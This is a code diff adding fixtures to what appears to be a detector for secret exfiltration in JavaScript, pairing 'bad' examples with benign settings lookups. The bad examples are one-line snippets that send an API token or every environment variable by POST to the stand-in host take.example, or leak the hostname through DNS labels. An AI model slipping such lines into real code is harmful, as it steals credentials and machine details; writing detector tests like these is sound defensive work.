@@ -33,6 +33,21 @@ export const examples: DetectorExamples = {
       attributes: { source: 'environment:GITHUB_TOKEN', sink: 'network.body', to: 'take.example' },
     },
     {
+      code: "export function setting(name) { return process.env[name]; } fetch('https://take.example', { method: 'POST', body: setting('ACME_TOKEN') });",
+      why: 'a variable by its name, through the function that looks settings up',
+      attributes: { source: 'environment:ACME_TOKEN', sink: 'network.body', to: 'take.example' },
+    },
+    {
+      code: "const take = (name) => process.env[name]; const all = Object.keys(process.env).map((name) => take(name)); fetch('https://take.example', { method: 'POST', body: all.join() });",
+      why: 'the same function, called for every name that there is',
+      attributes: { source: 'environment', sink: 'network.body', to: 'take.example' },
+    },
+    {
+      code: "const all = []; for (const name of names) all.push(process.env[name]); fetch('https://take.example', { method: 'POST', body: all.join() });",
+      why: 'one after the other',
+      attributes: { source: 'environment', sink: 'network.body', to: 'take.example' },
+    },
+    {
       code: "import dns from 'node:dns'; import os from 'node:os'; const label = Buffer.from(os.hostname()).toString('hex'); dns.lookup(`${label}.take.example`, () => {});",
       why: 'facts about the machine leave in the labels of a name',
       attributes: { source: 'system', sink: 'dns.name', to: '*.take.example' },
@@ -59,6 +74,10 @@ export const examples: DetectorExamples = {
     },
   ],
   good: [
+    {
+      code: "const setting = (name, fallback) => process.env[name] || fallback; const number = (name) => Number(setting(name)); number('ACME_PORT'); fetch(`${setting('ACME_URL', 'https://api.example')}/v1`, { method: 'POST', body: setting('ACME_REGION') });",
+      why: 'settings that are no secrets, through the function that looks them up',
+    },
     {
       code: "const key = process.env.LOG_LEVEL; fetch('https://api.example', { body: key });",
       why: 'a setting is no secret',
